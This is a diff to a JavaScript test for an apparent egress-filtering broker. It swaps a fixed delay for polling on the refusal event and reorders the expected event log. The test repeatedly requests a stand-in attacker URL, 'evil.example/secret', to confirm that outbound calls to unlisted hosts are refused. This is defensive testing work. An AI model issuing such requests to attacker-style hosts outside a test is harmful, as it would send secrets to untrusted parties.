@@ -57,11 +57,12 @@ test("what was put, set, forwarded, answered and refused is on the chain of that
   const call = { method: "POST", headers: { "x-ambit-call": "call-0001.1" }, body: "{}" };
   await ask(broker.door("clerk"), `${up.url}/mcp`, call);
   for (let times = 0; times < 50; times++) await ask(broker.door("clerk"), "https://evil.example/secret?path=1");
+  const refused = "egress_refused host_not_allowed";
+  while (!(await eventsOf(broker.control, "clerk")).includes(refused)) await pause(20);
   await ask(broker.control, "/deployments/clerk", { method: "DELETE" });
-  await pause(400);
   assert.deepEqual(await eventsOf(broker.control, "clerk"), [
     ...["deployment_put", "secret_set", "call_forwarded", "call_answered 200"],
-    ...["deployment_removed", "egress_refused host_not_allowed"],
+    ...[refused, "deployment_removed"],
   ]);
   assert.deepEqual(await eventsOf(broker.control, "other"), ["deployment_put"]);
   const text = JSON.stringify((await ask(broker.control, "/chains/clerk")).json);
